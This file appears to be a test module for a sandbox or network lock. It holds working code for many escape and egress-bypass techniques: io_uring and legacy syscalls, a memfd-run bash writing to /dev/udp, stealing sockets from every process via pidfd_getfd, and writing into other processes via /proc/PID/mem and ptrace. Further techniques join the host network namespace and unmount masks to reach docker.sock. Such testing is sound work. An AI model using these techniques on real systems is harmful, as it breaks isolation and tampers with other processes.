# ruff: noqa: ARG001, T201, S606, PTH208 -- a way takes what every way takes; it starts programs as programs do
"""Ways below and beside the socket library: io_uring, other system-call tables, other processes, namespaces."""

from __future__ import annotations

import ctypes
import mmap
import os
import platform
import re
import socket
import stat
import struct
import sys
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

from way import Targets, main, way

NEWNS, NEWUSER, NEWPID, NEWNET = 0x00020000, 0x10000000, 0x20000000, 0x40000000
_libc = ctypes.CDLL(None, use_errno=True)
_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
_libc.ptrace.restype = ctypes.c_long
_libc.syscall.restype = ctypes.c_long


def checked(result: int, what: str) -> int:
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, f"{what}: {os.strerror(number)}")
    return result


def inet_address(address: str, port: int) -> bytes:
    return struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(address) + bytes(8)


def send_udp(word: bytes, to: Targets) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(word, (to["out4"], 4100))


class Ring:
    """Just enough of io_uring for one request at a time."""

    def __init__(self) -> None:
        params = bytearray(120)
        view = (ctypes.c_char * 120).from_buffer(params)
        self.fd = checked(_libc.syscall(425, 4, view), "io_uring_setup")
        entries, completions = struct.unpack_from("=II", params, 0)
        self.sq = struct.unpack_from("=8I", params, 40)
        self.cq = struct.unpack_from("=8I", params, 80)
        self.sq_ring = mmap.mmap(self.fd, self.sq[6] + entries * 4, offset=0)
        self.cq_ring = mmap.mmap(self.fd, self.cq[5] + completions * 16, offset=0x8000000)
        self.sqes = mmap.mmap(self.fd, entries * 64, offset=0x10000000)

    def do(self, operation: int, fd: int, offset: int, address: int, size: int) -> int:
        tail = struct.unpack_from("=I", self.sq_ring, self.sq[1])[0]
        index = tail & struct.unpack_from("=I", self.sq_ring, self.sq[2])[0]
        entry = struct.pack("=BBHiQQIIQHHiQQ", operation, 0, 0, fd, offset, address, size, 0, 1, 0, 0, 0, 0, 0)
        self.sqes[index * 64 : index * 64 + 64] = entry
        struct.pack_into("=I", self.sq_ring, self.sq[6] + index * 4, index)
        struct.pack_into("=I", self.sq_ring, self.sq[1], tail + 1)
        checked(_libc.syscall(426, self.fd, 1, 1, 1, None, 0), "io_uring_enter")
        head = struct.unpack_from("=I", self.cq_ring, self.cq[0])[0]
        place = self.cq[5] + (head & struct.unpack_from("=I", self.cq_ring, self.cq[2])[0]) * 16
        result: int = struct.unpack_from("=i", self.cq_ring, place + 8)[0]
        struct.pack_into("=I", self.cq_ring, self.cq[0], head + 1)
        if result < 0:
            raise OSError(-result, f"request {operation}: {os.strerror(-result)}")
        return result


@way("uring-tcp", "TCP", "io_uring: socket, connect, send")
def uring_tcp(word: bytes, to: Targets) -> None:
    ring = Ring()
    fd = ring.do(45, socket.AF_INET, socket.SOCK_STREAM, 0, 0)
    address, data = ctypes.create_string_buffer(inet_address(to["out4"], 443), 16), ctypes.create_string_buffer(word)
    ring.do(16, fd, 16, ctypes.addressof(address), 0)
    ring.do(26, fd, 0, ctypes.addressof(data), len(word))


@way("uring-udp", "UDP", "io_uring: sendmsg on a socket made the usual way")
def uring_udp(word: bytes, to: Targets) -> None:
    ring = Ring()
    address, data = ctypes.create_string_buffer(inet_address(to["out4"], 4100), 16), ctypes.create_string_buffer(word)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(data), len(word))
    header = ctypes.create_string_buffer(
        struct.pack("@PIxxxxPNPNixxxx", ctypes.addressof(address), 16, ctypes.addressof(vector), 1, 0, 0, 0)
    )
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        ring.do(9, one.fileno(), 0, ctypes.addressof(header), 1)


@way("uring-unix", "unix socket", "io_uring: connect, send to /run/docker.sock")
def uring_unix(word: bytes, to: Targets) -> None:
    ring = Ring()
    name = struct.pack("=H", socket.AF_UNIX) + to["docker"].encode() + b"\0"
    address, data = ctypes.create_string_buffer(name), ctypes.create_string_buffer(word)
    with socket.socket(socket.AF_UNIX) as one:
        ring.do(16, one.fileno(), len(name), ctypes.addressof(address), 0)
        ring.do(26, one.fileno(), 0, ctypes.addressof(data), len(word))


def _int80() -> tuple[Callable[..., int], int, mmap.mmap]:
    """Return a function that makes a 32-bit system call, and memory that 32-bit addresses reach."""
    if platform.machine() != "x86_64":
        raise OSError("only on x86-64")
    memory = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, 7)
    code = bytes.fromhex("5389f889f387ca4489c64489cfcd8048985bc3")
    memory[: len(code)] = code
    start = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    call = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 6)(start)
    return call, start, memory


def _by_int80(word: bytes, to: Targets, *, multiplexed: bool) -> None:
    call, start, memory = _int80()
    memory[1024 : 1024 + len(word)] = word
    memory[1280:1296] = inet_address(to["out4"], 4100)
    send = (start + 1024, len(word), 0, start + 1280, 16)

    def old(number: int, *values: int) -> int:
        struct.pack_into("=6I", memory, 2048, *values, *[0] * (6 - len(values)))
        return call(102, number, start + 2048, 0, 0, 0)

    fd = old(1, socket.AF_INET, socket.SOCK_DGRAM, 0) if multiplexed else call(359, socket.AF_INET, 2, 0, 0, 0)
    if fd < 0:
        raise OSError(-fd, f"socket: {os.strerror(-fd)}")
    sent = old(11, fd, *send) if multiplexed else call(369, fd, *send[:4])
    if not multiplexed:  # sendto has six arguments and this call passes five: connect, then send
        call(362, fd, start + 1280, 16, 0, 0)
        sent = os.write(fd, word)
    if sent < 0:
        raise OSError(-sent, f"sendto: {os.strerror(-sent)}")


@way("int80", "UDP", "32-bit system calls (int 0x80): socket, connect")
def int80(word: bytes, to: Targets) -> None:
    _by_int80(word, to, multiplexed=False)


@way("int80-socketcall", "UDP", "32-bit socketcall (int 0x80)")
def int80_socketcall(word: bytes, to: Targets) -> None:
    _by_int80(word, to, multiplexed=True)


@way("x32", "UDP", "x32 system calls")
def x32(word: bytes, to: Targets) -> None:
    if platform.machine() != "x86_64":
        raise OSError("only on x86-64")
    fd = checked(_libc.syscall(0x40000000 | 41, socket.AF_INET, socket.SOCK_DGRAM, 0), "socket")
    address = ctypes.create_string_buffer(inet_address(to["out4"], 4100), 16)
    checked(_libc.syscall(0x40000000 | 44, fd, word, len(word), 0, address, 16), "sendto")


@way("memfd-exec", "UDP", "a program run from memory (memfd)")
def memfd_exec(word: bytes, to: Targets) -> None:
    memory = os.memfd_create("program", 0)
    os.write(memory, Path("/bin/bash").read_bytes())
    line = f"echo {word.decode()} >/dev/udp/{to['out4']}/4100"
    os.execve(f"/proc/self/fd/{memory}", ["program", "-c", line], os.environ)


def _pidfd(to: Targets) -> int:
    return checked(_libc.syscall(434, to["victim"]["pid"], 0), "pidfd_open")


@way("pidfd-getfd", "UDP", "the socket of an outside program by pidfd_getfd")
def pidfd_getfd(word: bytes, to: Targets) -> None:
    fd = checked(_libc.syscall(438, _pidfd(to), to["victim"]["udp"], 0), "pidfd_getfd")
    os.write(fd, word)


@way("pidfd-getfd-all", "any", "every socket of every other process in sight, the lock's helpers too")
def pidfd_getfd_all(word: bytes, to: Targets) -> None:
    taken = []
    for pid in [int(entry) for entry in os.listdir("/proc") if entry.isdigit()]:
        handle = _libc.syscall(434, pid, 0)
        command = Path(f"/proc/{pid}/cmdline").read_bytes()
        if handle < 0 or pid in {os.getpid(), os.getppid()} or b"driver.py" in command:  # the judges stay unharmed
            continue
        for number in range(3, 64):
            fd = _libc.syscall(438, handle, number, 0)
            if fd >= 0 and stat.S_ISSOCK(os.fstat(fd).st_mode):
                taken.append(f"{pid} {command[-40:]!r}")
                _libc.send(fd, word, len(word), socket.MSG_DONTWAIT | socket.MSG_NOSIGNAL)
            if fd >= 0:
                os.close(fd)
    print("; ".join(taken))


@way("proc-fd", "pipe of an outside program", "/proc/PID/fd of a sibling")
def proc_fd(word: bytes, to: Targets) -> None:
    fd = os.open(f"/proc/{to['victim']['pid']}/fd/{to['victim']['pipe']}", os.O_WRONLY)
    os.write(fd, word)


@way("proc-mem", "UDP of an outside program", "/proc/PID/mem")
def proc_mem(word: bytes, to: Targets) -> None:
    fd = os.open(f"/proc/{to['victim']['pid']}/mem", os.O_RDWR)
    os.pwrite(fd, word, to["victim"]["buffers"][0])


@way("vm-writev", "UDP of an outside program", "process_vm_writev")
def vm_writev(word: bytes, to: Targets) -> None:
    data = ctypes.create_string_buffer(word)
    local = (ctypes.c_size_t * 2)(ctypes.addressof(data), len(word))
    remote = (ctypes.c_size_t * 2)(to["victim"]["buffers"][1], len(word))
    checked(_libc.process_vm_writev(to["victim"]["pid"], local, 1, remote, 1, 0), "process_vm_writev")


@way("ptrace", "UDP of an outside program", "ptrace attach, poke")
def ptrace(word: bytes, to: Targets) -> None:
    pid, place = to["victim"]["pid"], to["victim"]["buffers"][2]
    checked(_libc.ptrace(16, pid, None, None), "attach")
    os.waitpid(pid, 0x40000000)
    padded = word.ljust(16, b"\0")
    for at in (0, 8):
        checked(_libc.ptrace(5, pid, place + at, int.from_bytes(padded[at : at + 8], sys.byteorder)), "poke")
    checked(_libc.ptrace(17, pid, None, None), "detach")


@way("setns-path", "UDP", "setns to /proc/1/ns/net")
def setns_path(word: bytes, to: Targets) -> None:
    with Path("/proc/1/ns/net").open("rb") as held:
        checked(_libc.setns(held.fileno(), NEWNET), "setns")
    send_udp(word, to)


@way("setns-pidfd", "UDP", "setns with a pidfd of an outside program")
def setns_pidfd(word: bytes, to: Targets) -> None:
    checked(_libc.setns(_pidfd(to), NEWNET), "setns")
    send_udp(word, to)


def own_user_namespace(flags: int) -> None:
    uid, gid = os.geteuid(), os.getegid()
    checked(_libc.unshare(NEWUSER | flags), "unshare")
    Path("/proc/self/setgroups").write_text("deny", encoding="ascii")
    Path("/proc/self/uid_map").write_text(f"0 {uid} 1", encoding="ascii")
    Path("/proc/self/gid_map").write_text(f"0 {gid} 1", encoding="ascii")


@way("new-user-namespace", "UDP", "root in a new user namespace, then sendto")
def new_user_namespace(word: bytes, to: Targets) -> None:
    own_user_namespace(0)
    send_udp(word, to)


@way("new-proc", "UDP", "new user, mount and process namespaces, a fresh /proc, then sendto")
def new_proc(word: bytes, to: Targets) -> None:
    own_user_namespace(NEWNS | NEWPID)
    pid = os.fork()
    if pid:
        status = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
        if status:
            raise OSError(status, "mount of a new /proc")
        return
    status = 1
    try:
        fresh = Path(to["scratch"]) / f"proc-{word.decode()}"
        fresh.mkdir()
        checked(_libc.mount(b"proc", str(fresh).encode(), b"proc", 0, None), "mount")
        send_udp(word, to)
        status = 0
    finally:
        os._exit(status)


@way("unmask", "unix socket", "as root of a new user namespace, unmount what hides /run/docker.sock")
def unmask(word: bytes, to: Targets) -> None:
    with suppress(OSError):
        own_user_namespace(NEWNS)
    mounts = re.findall(r"^\d+ \d+ \S+ \S+ (\S+)", Path("/proc/self/mountinfo").read_text("utf-8"), re.MULTILINE)
    for place in reversed(mounts):
        if place != "/" and to["docker"].startswith(place) and place != "/run":
            _libc.umount2(place.encode(), 2)
    if not Path(to["docker"]).is_socket():
        _libc.umount2(b"/run", 2)
    with socket.socket(socket.AF_UNIX) as one:
        one.connect(to["docker"])
        one.sendall(word)


@way("unix-bind-mount", "unix socket", "as root of a new user namespace, /run bound to another place")
def unix_bind_mount(word: bytes, to: Targets) -> None:
    with suppress(OSError):
        own_user_namespace(NEWNS)
    place = Path(to["scratch"]) / f"bound-{word.decode()}"
    place.mkdir()
    checked(_libc.mount(b"/run", str(place).encode(), None, 0x1000 | 0x4000, None), "bind mount")
    with socket.socket(socket.AF_UNIX) as one:
        one.connect(str(place / "docker.sock"))
        one.sendall(word)


@way("host-name", "/proc/sys", "the machine's name, which its services announce")
def host_name(word: bytes, to: Targets) -> None:
    Path("/proc/sys/kernel/hostname").write_bytes(word)


@way("xdp", "Ethernet", "AF_XDP, copy mode, transmit only")
def xdp(word: bytes, to: Targets) -> None:
    with socket.socket(44, socket.SOCK_RAW) as one:
        area = mmap.mmap(-1, 4096 * 16)
        start = ctypes.addressof(ctypes.c_char.from_buffer(area))
        frame = b"\xff" * 6 + b"\2\0\0\0\0\1" + b"\x88\xb5" + word.ljust(64, b"\0")
        area[: len(frame)] = frame
        one.setsockopt(283, 4, struct.pack("=QQIIIII", start, 4096 * 16, 4096, 0, 0, 0, 0)[:32])
        for option in (5, 6, 3):  # fill, completion, transmit rings
            one.setsockopt(283, option, struct.pack("=I", 4))
        offsets = struct.unpack("=16Q", one.getsockopt(283, 1, 128))
        producer, _consumer, descriptors, _flags = offsets[4:8]
        ring = mmap.mmap(one.fileno(), descriptors + 4 * 16, offset=0x80000000)
        address = struct.pack("=HHIII", 44, 1 << 1, socket.if_nametoindex(to["link"]), 0, 0)
        checked(_libc.bind(one.fileno(), address, 16), "bind")
        struct.pack_into("=QII", ring, descriptors, 0, len(frame), 0)
        struct.pack_into("=I", ring, producer, 1)
        checked(_libc.sendto(one.fileno(), None, 0, 0x40, None, 0), "sendto")


if __name__ == "__main__":
    main()
